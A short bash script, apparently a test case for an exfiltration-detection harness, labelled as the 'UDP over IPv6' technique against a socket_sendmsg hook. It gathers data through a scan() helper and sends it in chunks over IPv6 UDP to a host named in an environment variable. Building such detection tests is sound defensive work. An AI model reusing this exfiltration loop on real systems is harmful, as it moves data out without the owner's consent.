#!/usr/bin/env bash
# technique: UDP over IPv6
# hooks: socket_sendmsg
# sink: private-udp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sink:
    for start in range(0, 1 << 15, 1024):
        sink.sendto(data[start : start + 1024], (os.environ["PRIVATE_HOST6"], UDP[1]))
PY
